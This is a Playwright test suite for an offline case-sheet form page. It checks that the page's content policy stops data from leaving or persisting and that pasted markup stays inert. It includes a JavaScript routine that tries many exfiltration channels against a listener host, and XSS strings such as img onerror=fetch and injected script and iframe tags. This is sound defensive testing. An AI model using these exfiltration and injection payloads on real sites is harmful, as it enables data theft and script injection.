"""What is typed at the desk stays there: no request, no storage, no log, no address; and hostile text stays text."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from desk_driver import (
    clear,
    fill,
    listen,
    load,
    new_context,
    open_desk,
    pick,
    problems,
    put,
    read_form,
    serve,
    settle,
    sheet_text,
    state,
    wait_ready,
)
from hostile.payloads import FAMILIES, find_marked, mark, tame
from playwright.sync_api import Browser, BrowserContext, Page, expect

CANARY = "Quillonia Brambleknot"
FRAME = "document.getElementById('desk-frame').contentDocument"
STORED = """async () => JSON.stringify([
    Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, location.href,
    (await indexedDB.databases()).length, isSecureContext ? await caches.keys() : [], history.length,
])"""
# Every way out of a page that we know of. Each must fail, and nothing may arrive.
WAYS_OUT = """async away => {
    const tried = [];
    const attempt = async (name, act) => { try { await act(); tried.push(name); } catch { /* refused */ } };
    await attempt("fetch", () => fetch(away + "/fetch", { mode: "no-cors" }));
    navigator.sendBeacon(away + "/beacon", "x");  // says that it was sent even where the policy stops it
    await attempt("worker", () => new Promise((done, failed) => {
        const worker = new Worker("/desk/engine/pyodide.js");
        worker.onerror = failed; worker.onmessage = done; setTimeout(done, 500);
    }));
    await attempt("blob worker", () => new Promise((done, failed) => {
        const code = new Blob([`fetch("${away}/blob-worker", { mode: "no-cors" })`]);
        const worker = new Worker(URL.createObjectURL(code)); worker.onerror = failed; setTimeout(done, 500);
    }));
    await attempt("socket", () => new Promise((done, failed) => {
        const socket = new WebSocket(away.replace("http", "ws")); socket.onopen = done; socket.onerror = failed;
    }));
    await attempt("events", () => new Promise((done, failed) => {
        const source = new EventSource(away + "/events"); source.onopen = done; source.onerror = failed;
    }));
    await attempt("image", () => new Promise((done, failed) => {
        const image = new Image(); image.onload = done; image.onerror = failed; image.src = away + "/image";
    }));
    await attempt("script", () => new Promise((done, failed) => {
        const script = document.createElement("script"); script.onload = done; script.onerror = failed;
        script.src = away + "/script"; document.head.append(script);
    }));
    await attempt("inline", () => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true"; document.head.append(script);
        if (!window.ran) throw 0;
    });
    await attempt("eval", () => eval("1"));
    for (const [tag, name] of [["iframe", "src"], ["object", "data"], ["link", "href"]]) {
        const made = document.createElement(tag);
        if (tag === "link") made.rel = "stylesheet";
        made[name] = away + "/" + tag;
        document.body.append(made);
    }
    const style = document.createElement("style");
    style.textContent = `body { background: url(${away}/style) } @import "${away}/import";`;
    document.head.append(style);
    const form = document.createElement("form");
    form.action = away + "/form"; form.target = "_blank"; document.body.append(form); form.submit();
    await new Promise(done => setTimeout(done, 700));
    return tried;
}"""


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = new_context(browser)
    yield made
    made.close()


def spoil(case: dict[str, Any], away: str) -> dict[str, Any]:
    """A case whose every text tries to be more than text."""
    image = f"<img src={away}/hostile onerror=fetch('{away}/ran')>"
    return {
        **case,
        "name": f"{CANARY} {image}",
        "note": f"</style></head><script>fetch('{away}/ran')</script>{image} {{{{ 7 * 7 }}}} <iframe src={away}/frame>",
        "important_dates": [{"what": f"Trip {image}", "date": "2027-02-03"}],
        "clinic": {"name": f"Clinic {image}", "lines": [f"<link rel=stylesheet href={away}/css>"]},
    }


def test_nothing_leaves_and_nothing_stays(context: BrowserContext, desk_site: Path, small_case: dict[str, Any]) -> None:
    with serve(desk_site) as address, listen() as (away, heard):
        page = open_desk(context, address)
        stored = page.evaluate(STORED)
        asked: list[str] = []
        said: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        context.on("console", lambda message: said.append(message.text))
        fill(page, spoil(small_case, away))
        settle(page)
        assert state(page) == "The sheets are up to date."
        assert CANARY in sheet_text(page)
        assert page.evaluate(f"{FRAME}.querySelectorAll('img, script, iframe, link').length") == 0
        with page.expect_download() as waiting:
            page.locator("#do-save").click()
        assert "Quillonia" not in waiting.value.suggested_filename
        page.locator("#do-print").click()
        assert [url for url in asked if not url.startswith("blob:")] == []
        assert heard == []
        assert not any("Quillonia" in text for text in said)
        assert page.evaluate(STORED) == stored
        clear(page)
        assert "Quillonia" not in page.evaluate(
            f"document.documentElement.outerHTML + {FRAME}.documentElement.outerHTML"
        )
        assert "Quillonia" not in json.dumps(read_form(page))


def test_every_way_out_is_shut(context: BrowserContext, desk_site: Path) -> None:
    with serve(desk_site) as address, listen() as (away, heard):
        page = open_desk(context, address)
        assert page.evaluate(WAYS_OUT, away) == []
        assert heard == []


def test_the_listener_would_hear_it(context: BrowserContext, desk_site: Path) -> None:
    """Another page of the site has no such policy: what the test above tries does arrive from there."""
    with serve(desk_site) as address, listen() as (away, heard):
        page = context.new_page()
        page.goto(f"{address}/injuries/index.html")
        assert {"fetch", "inline"} <= set(page.evaluate(WAYS_OUT, away))
        assert {"/fetch", "/beacon", "/image", "/script", "/style"} <= set(heard)


def test_only_this_page_has_the_policy_and_the_engine(desk_site: Path) -> None:
    pages = sorted(desk_site.rglob("*.html"))
    with_policy = [p for p in pages if "Content-Security-Policy" in p.read_text(encoding="utf-8")]
    assert [p.relative_to(desk_site).as_posix() for p in with_policy] == ["desk/index.html"]
    for page in pages:
        if page not in with_policy:
            assert "assets/desk/" not in page.read_text(encoding="utf-8")
    text = with_policy[0].read_text(encoding="utf-8")
    assert re.findall(r"script-src [^;]*", text) == ["script-src 'self' 'wasm-unsafe-eval'"]
    assert 'sandbox="allow-same-origin allow-modals"' in text


def test_a_letterhead_is_kept_only_where_asked(
    context: BrowserContext, desk_site: Path, small_case: dict[str, Any]
) -> None:
    with serve(desk_site) as address:
        page = open_desk(context, address)
        clinic = {"name": "Climbing Clinic", "lines": ["3 Old Lane"], "phone": "555"}
        checked = {"name": "Imogen", "role": "therapist", "date": "2026-11-25", "stage": small_case["stage"]}
        load(page, {**small_case, "name": CANARY, "clinic": clinic, "checked": checked})
        assert page.evaluate("localStorage.length") == 0
        page.locator("#part-letterhead > summary").click()
        page.locator("#desk-keep").check()
        assert "Quillonia" not in page.evaluate("JSON.stringify(Object.entries(localStorage))")
        clear(page)
        assert page.locator('[data-path="clinic.name"]').input_value() == "Climbing Clinic"
        page.reload()
        wait_ready(page)
        assert page.locator('[data-path="clinic.lines"]').input_value() == "3 Old Lane"
        kept = [page.locator(f'[data-path="checked.{key}"]').input_value() for key in ("name", "role", "date")]
        assert kept == ["Imogen", "therapist", ""], "who checks is remembered, and no day is"
        pick(page, "protocol", "pulley")
        page.locator("#part-letterhead > summary").click()
        page.locator("#desk-keep").uncheck()
        assert page.evaluate("localStorage.length") == 0


def test_it_works_from_a_folder(context: BrowserContext, desk_site: Path, small_case: dict[str, Any]) -> None:
    page = open_desk(context, desk_site.as_uri())
    load(page, small_case)
    put(page, "note", "From a folder.")
    settle(page)
    assert "From a folder." in sheet_text(page)


def test_without_webassembly_it_says_so(context: BrowserContext, desk_site: Path) -> None:
    context.add_init_script("delete globalThis.WebAssembly;")
    with serve(desk_site) as address:
        page = context.new_page()
        page.goto(f"{address}/desk/index.html")
        expect(page.locator("#desk-stop")).to_contain_text("It needs WebAssembly")
        assert page.locator("#desk-stop a").count() == 7


def test_where_the_engine_does_not_come_it_says_so(context: BrowserContext, desk_site: Path) -> None:
    context.route("**/parts/python-*", lambda route: route.abort())
    with serve(desk_site) as address:
        page = context.new_page()
        page.goto(f"{address}/desk/index.html")
        expect(page.locator("#desk-stop")).to_contain_text("could not be loaded")


# ------------------------------------------------------------------ words that try to be more


PIECES = [piece for payload in FAMILIES for piece in re.findall(r".{1,160}", payload)]


def _plant(case: dict[str, Any], words: str) -> dict[str, Any]:
    """A case with the same words in every field that takes words, in print that runs on: a small leaf has no room."""
    dates = [{"what": words, "date": "2027-02-03"}]
    clinic = {"name": words, "lines": [words, words], "phone": words, "emergency_number": words}
    texts = {"reference": words, "name": words, "note": words, "important_dates": dates, "clinic": clinic}
    return {**case, **texts, "print_size": 18}


def _squeeze(words: str) -> str:
    """Without what a narrow flag on a drawing puts between the letters of a long word."""
    return re.sub(r"[\s-]", "", words)


def _describe(page: Page) -> dict[str, Any]:
    """How many elements stand outside of drawings, and which kinds and attributes of elements there are at all.

    But for the backs that would be blank, because where sheets end depends on how wide the letters are, and for the
    mark of what has changed, because it fades.
    """
    return dict(
        page.evaluate("""() => {
        const all = [...document.getElementById("desk-frame").contentDocument.querySelectorAll(":not(.blank-back)")];
        const isMark = (e, name) => name === "class" && !e.getAttribute(name).replace("desk-changed", "").trim();
        const names = (e) => e.getAttributeNames().filter((name) => !isMark(e, name));
        const kinds = all.flatMap((e) => [e.tagName, ...names(e).map((name) => `${e.tagName} ${name}`)]);
        return { count: all.filter((e) => !e.closest("svg")).length, kinds: [...new Set(kinds)].sort() };
    }""")
    )


def test_hostile_words_typed_into_the_form_stay_words(
    context: BrowserContext, desk_site: Path, small_case: dict[str, Any]
) -> None:
    """Whatever somebody types or pastes is printed as it stands. Nothing runs, and nothing becomes part of a page."""
    caught: list[str] = []
    context.add_init_script("window.hits = []; window.hit = (number) => { window.hits.push(number); };")
    with serve(desk_site) as address:
        page = open_desk(context, address)
        page.on("dialog", lambda dialog: (caught.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: caught.append(request.url))
        for number, piece in enumerate(PIECES):
            words = mark(number, piece.strip())
            load(page, _plant(small_case, mark(number, tame(piece.strip()))))
            tamed = _describe(page)
            clear(page)
            fill(page, _plant(small_case, words))
            assert (problems(page), state(page)) == ([], "The sheets are up to date."), piece
            found = find_marked(sheet_text(page))[number]
            assert " ".join(piece.split()) in found, piece
            assert {_squeeze(f) for f in found} == {_squeeze(piece)}, piece
            assert _describe(page) == tamed, piece
            page.locator("#do-change").click()
            page.locator("#desk-search").fill(words)
            clear(page)
        assert page.evaluate("window.hits") == []
        assert caught == []
